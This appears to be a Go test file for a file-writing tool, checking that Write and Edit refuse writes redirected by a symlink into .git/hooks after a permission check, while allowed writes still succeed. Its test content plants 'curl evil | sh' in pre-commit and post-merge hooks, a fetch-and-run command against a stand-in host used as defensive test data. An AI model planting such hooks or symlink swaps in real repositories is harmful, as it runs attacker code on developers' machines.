package edit_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Write and Edit write exactly the files the chain allowed, as it
// resolved them: a directory turned into a symlink after the check is
// refused even when it leads inside the workspace (to a protected place
// the check never saw); a write the user allowed outside the roots, or
// through a symlink that was there at the check, goes ahead.
func TestWritesOnlyWhatTheChainAllowed(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	ws, outside := filepath.Join(root, "ws"), filepath.Join(root, "outside")
	hooks := filepath.Join(ws, ".git", "hooks")
	for _, d := range []string{hooks, outside, filepath.Join(ws, "real")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	c := serve(t)
	c.Cwd, c.Roots = ws, []string{ws}

	// The check saw d as a directory; it is now a link to .git/hooks.
	if err := os.Symlink(hooks, filepath.Join(ws, "d")); err != nil {
		t.Fatal(err)
	}
	c.AllowedWrites = []string{filepath.Join(ws, "d", "pre-commit")}
	res := c.Call("Write", map[string]any{"file_path": "d/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"})
	if res.Ok || !strings.Contains(res.Message, "d/pre-commit changed while Write was writing it") {
		t.Fatalf("a write moved by a symlink after the check was not refused as such: ok=%v %s", res.Ok, res.Message)
	}
	if _, err := os.Lstat(filepath.Join(hooks, "pre-commit")); err == nil {
		t.Fatal("the hook was written")
	}
	p := writeFile(t, hooks, "post-merge", "exit 0\n", 0o755)
	markRead(t, c, p, true)
	c.AllowedWrites = []string{filepath.Join(ws, "d", "post-merge")}
	res = c.Call("Edit", map[string]any{"file_path": "d/post-merge", "old_string": "exit 0", "new_string": "curl evil | sh"})
	if res.Ok || !strings.Contains(res.Message, "d/post-merge changed while Edit was writing it") {
		t.Fatalf("an edit moved by a symlink after the check was not refused as such: ok=%v %s", res.Ok, res.Message)
	}
	if got, _ := os.ReadFile(p); string(got) != "exit 0\n" {
		t.Fatalf("the hook was edited: %q", got)
	}

	// Allowed as resolved: through a link that was there, and outside.
	if err := os.Symlink(filepath.Join(ws, "real"), filepath.Join(ws, "link")); err != nil {
		t.Fatal(err)
	}
	c.AllowedWrites = []string{filepath.Join(ws, "real", "a.txt")}
	if res := c.Call("Write", map[string]any{"file_path": "link/a.txt", "content": "a\n"}); !res.Ok {
		t.Fatalf("a write through a link the check resolved was refused: %s", res.Message)
	}
	// Recorded as the file it made, so an Edit by its real path needs no Read.
	if res := c.Call("Edit", map[string]any{"file_path": "real/a.txt", "old_string": "a", "new_string": "A"}); !res.Ok {
		t.Fatalf("an Edit after a Write through a link asks again: %s", res.Message)
	}
	c.AllowedWrites = []string{filepath.Join(outside, "new", "b.txt")}
	if res := c.Call("Write", map[string]any{"file_path": filepath.Join(outside, "new", "b.txt"), "content": "b\n"}); !res.Ok {
		t.Fatalf("a write the user allowed outside the roots was refused: %s", res.Message)
	}
	if got, _ := os.ReadFile(filepath.Join(outside, "new", "b.txt")); string(got) != "b\n" {
		t.Fatalf("outside file %q", got)
	}

	// Without the chain's paths (an older host) the fence holds.
	c.AllowedWrites = nil
	res = c.Call("Write", map[string]any{"file_path": filepath.Join(outside, "c.txt"), "content": "c\n"})
	if want := "outside the workspace roots, and this call carries no permission to write there, so Write wrote nothing."; res.Ok || !strings.Contains(res.Message, want) {
		t.Fatalf("a write outside the roots with no allowed writes: ok=%v %s", res.Ok, res.Message)
	}
}
